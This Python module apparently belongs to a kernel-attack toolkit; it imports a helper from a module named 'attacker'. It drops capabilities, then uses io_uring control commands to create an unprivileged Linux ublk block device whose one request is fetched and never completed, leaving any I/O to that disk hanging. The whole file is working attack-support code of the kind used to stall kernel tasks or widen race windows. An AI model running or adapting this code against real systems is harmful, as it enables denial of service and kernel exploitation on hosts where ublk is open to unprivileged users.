"""A disk of ublk (linux/ublk_cmd.h), made without privilege. It is there, and answers nobody."""

import ctypes
import mmap
import os
import struct

from attacker import system_call
from io_uring import Ring

CONTROL = "/dev/ublk-control"
UBLK_F_UNPRIVILEGED_DEV, UBLK_F_CMD_IOCTL_ENCODE = 1 << 5, 1 << 6
UBLK_PARAM_TYPE_BASIC = 1
ADD_DEV, DEL_DEV, START_DEV, STOP_DEV, SET_PARAMS, FETCH_REQ = 0x04, 0x05, 0x06, 0x07, 0x08, 0x20
SYS_CAPSET = 126
SECTORS = 2048


def operation(number, size):
    return 3 << 30 | size << 16 | ord("u") << 8 | number


def drop_capabilities():
    """Who may administer the host gets another kind of disk, which the kernel would read at once."""
    version = struct.pack("<Ii", 0x20080522, 0)
    system_call(SYS_CAPSET, ctypes.c_char_p(version), ctypes.c_char_p(bytes(24)))


class Control:
    def __init__(self):
        self._descriptor = os.open(CONTROL, os.O_RDWR)
        self._ring = Ring(wide=True)

    def call(self, number, device, payload=b"", data=0):
        """What stands in the payload afterwards. Who has no privilege for all devices says by its path which one it may use."""
        path = b"" if number == ADD_DEV else b"/dev/ublkc%d\0" % device
        buffer = ctypes.create_string_buffer(path + payload, len(path) + len(payload))
        header = struct.pack(
            "<IHHQQHHI", device, 0xFFFF, len(buffer), ctypes.addressof(buffer), data, len(path), 0, 0
        )
        result = self._ring.command(self._descriptor, operation(number, len(header)), header)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return buffer.raw[len(path) :]


class Disk:
    """One queue, of one request, which is fetched and never done."""

    def __init__(self):
        flags = UBLK_F_UNPRIVILEGED_DEV | UBLK_F_CMD_IOCTL_ENCODE
        info = struct.pack("<HHHHIIiIQQIIQQ", 1, 1, 0, 0, 4096, 0xFFFFFFFF, 0, 0, flags, 0, 0, 0, 0, 0)
        self._control = Control()
        self.number = struct.unpack_from("<I", self._control.call(ADD_DEV, 0xFFFFFFFF, info), 12)[0]
        basic = struct.pack("<IBBBBIIQQ", 0, 9, 12, 12, 9, 8, 0, SECTORS, 0)
        parameters = struct.pack("<II", 8 + len(basic), UBLK_PARAM_TYPE_BASIC) + basic
        self._control.call(SET_PARAMS, self.number, parameters)
        self._queue = os.open("/dev/ublkc%d" % self.number, os.O_RDWR)
        self._requests = mmap.mmap(self._queue, mmap.PAGESIZE, prot=mmap.PROT_READ)
        self._memory = mmap.mmap(-1, mmap.PAGESIZE)
        self._ring = Ring()
        address = ctypes.addressof(ctypes.c_char.from_buffer(self._memory))
        fetch = struct.pack("<HHiQ", 0, 0, 0, address)
        self._ring.command(self._queue, operation(FETCH_REQ, len(fetch)), fetch, wait=False)
        self._control.call(START_DEV, self.number, data=os.getpid())

    def stop(self):
        self._control.call(STOP_DEV, self.number)


def delete(number):
    """Of a disk that has been stopped, or whose maker has ended."""
    Control().call(DEL_DEV, number)
